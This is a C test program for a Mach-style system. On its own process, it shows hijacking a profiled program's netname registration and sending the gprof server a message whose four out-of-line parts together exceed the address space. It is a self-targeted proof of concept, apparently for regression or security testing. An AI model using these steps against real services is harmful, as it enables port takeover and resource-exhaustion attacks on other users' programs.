/* SPDX-License-Identifier: MIT */
/*
 * What anybody may try with the name of a profiled program: to take it over, and to send what the
 * program cannot receive.  It does so to itself, and then ends as every program does.
 */
#include <mach.h>
#include <mach/messages.h>
#include <servers/gprof.h>
#include <servers/netname.h>
#include <stdio.h>
#include <string.h>
#include <sys/ux.h>
#include <unistd.h>

#define PARTS 4
#define LARGE 0x50000000u /* So many parts of this size are more than there are addresses. */

static struct {
	mach_msg_header_t head;
	struct {
		mach_msg_type_long_t type;
		vm_address_t data;
	} parts[PARTS];
} message;

/* There is no memory behind it until somebody touches it. */
static mach_msg_return_t send_too_much(mach_port_t port)
{
	vm_address_t memory = 0;

	if (vm_allocate(mach_task_self_cached(), &memory, LARGE, TRUE) != KERN_SUCCESS)
		return KERN_RESOURCE_SHORTAGE;
	message.head = (mach_msg_header_t){
		.msgh_bits = MACH_MSGH_BITS_COMPLEX | MACH_MSGH_BITS(MACH_MSG_TYPE_COPY_SEND, 0),
		.msgh_size = sizeof message,
		.msgh_remote_port = port,
		.msgh_id = ID_GPROF_MON_SWITCH,
	};
	for (int n = 0; n < PARTS; n++) {
		message.parts[n].type.msgtl_header.msgt_longform = TRUE;
		message.parts[n].type.msgtl_name = MACH_MSG_TYPE_BYTE;
		message.parts[n].type.msgtl_size = 8;
		message.parts[n].type.msgtl_number = LARGE;
		message.parts[n].data = memory;
	}
	return mach_msg(&message.head, MACH_SEND_MSG, sizeof message, 0, MACH_PORT_NULL, 0,
			MACH_PORT_NULL);
}

int main(void)
{
	mach_port_t server = ux_name_server(), port = MACH_PORT_NULL;
	gprof_status_t status;
	netname_name_t name;

	snprintf(name, sizeof name, "gprof.%d", getpid());
	printf("found %d\n", netname_look_up(server, "*", name, &port) == NETNAME_SUCCESS);
	printf("taken %d\n", netname_check_in(server, name, port, server) == NETNAME_SUCCESS);
	printf("removed %d\n", netname_check_out(server, name, port) == NETNAME_SUCCESS);
	printf("sent %d\n", send_too_much(port) == MACH_MSG_SUCCESS);
	printf("answers %d\n", gprof_mon_status(port, &status) == KERN_SUCCESS);
	return 3;
}
